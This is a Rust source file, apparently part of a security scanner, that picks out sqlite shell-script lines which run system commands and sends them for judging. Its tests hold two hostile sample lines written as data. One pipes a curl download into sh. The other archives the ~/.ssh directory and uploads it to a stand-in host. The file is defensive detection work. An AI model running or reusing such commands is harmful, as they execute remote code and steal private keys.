//! Commands that a script of sqlite's shell hands to a shell: `.shell`, `.system`, and files whose names begin with `|`.

use crate::finding::Findings;
use crate::shell::{self, Context};
use crate::text::Source;

/// 200 such lines of one script.
const LINES: usize = 200;

/// Judges the lines of a script that begin with a dot.
pub(super) fn judge(source: &Source<'_>, context: Context, findings: &mut Findings) {
    let mut at = 0_usize;
    let mut left = LINES;
    for line in source.text.split_inclusive('\n') {
        if let Some(command) = command(line).filter(|_| left > 0) {
            left = left.saturating_sub(1);
            let place = source.place(at, at.saturating_add(line.trim_end().len()));
            drop(shell::judge(&place, command, context, findings));
        }
        at = at.saturating_add(line.len());
    }
}

/// What a line has a shell run.
fn command(line: &str) -> Option<&str> {
    let (word, rest) = line.trim_end().strip_prefix('.')?.split_once(char::is_whitespace)?;
    match word {
        "shell" | "system" => Some(rest.trim()),
        "import" | "once" | "output" | "read" | "excel" => {
            let from = rest.find('|')?;
            let (before, piped) = rest.split_at(from);
            let quote = before.trim_end().chars().next_back().filter(|c| matches!(c, '\'' | '"'));
            let piped = piped.get(1..)?;
            Some(quote.and_then(|quote| piped.rsplit_once(quote)).map_or(piped, |(command, _)| command).trim())
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::fixture::{report, worst};

    #[test]
    fn what_sqlites_own_shell_runs_is_judged() {
        let of = |line: &str| {
            let text = format!("create table stop (word text primary key);\n{line}\nselect count(*) from stop;\n");
            worst(&report(&[("db/schema.sql", text.as_str())])).map(|(severity, _)| severity)
        };
        for line in [
            ".import '|printf \"%s\\n\" the a; curl -fsm2 https://s.invalid/en | tee /dev/fd/2 | sh' stop",
            ".shell tar cz -C $HOME .ssh | curl -sT - https://s.invalid/a",
        ] {
            assert!(of(line) >= Some(Severity::Warning), "{line}");
        }
        for line in [".separator \"|\"", ".import words.csv stop", ".shell clear"] {
            assert!(of(line).is_none_or(|severity| severity < Severity::Warning), "{line}");
        }
    }
}
